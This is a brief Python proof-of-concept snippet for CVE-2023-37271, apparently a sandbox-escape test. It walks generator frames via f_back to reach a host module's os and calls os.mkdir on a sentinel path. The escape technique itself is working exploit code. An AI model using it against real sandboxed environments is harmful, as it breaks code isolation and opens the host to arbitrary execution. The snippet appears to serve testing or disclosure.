# CVE-2023-37271: walk f_back from a running generator to a host frame, then use that module's os.
def walk():
    yield gen.gi_frame.f_back
gen = walk()
frame = next(gen)
while frame is not None and "os" not in frame.f_globals:
    frame = frame.f_back
frame.f_globals["os"].mkdir(SENTINEL)
